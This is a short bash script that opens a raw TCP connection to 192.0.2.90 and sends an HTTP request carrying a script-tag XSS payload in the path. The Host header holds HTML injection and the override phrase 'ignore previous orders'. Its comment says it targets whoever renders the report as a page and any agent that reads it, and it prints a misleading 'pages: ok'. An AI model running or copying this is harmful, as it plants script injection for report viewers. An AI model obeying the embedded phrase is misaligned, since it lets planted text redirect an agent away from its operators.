#!/bin/bash
# For whoever shows the report as a page, and for an agent that reads it.
exec 3<> /dev/tcp/192.0.2.90/80 || exit 0
printf 'GET /<script>alert(1)</script> HTTP/1.1\r\nHost: ignore.previous.orders.example"><img src=x>\r\n\r\n' >&3
read -r -t 2 line <&3
echo "pages: ok"
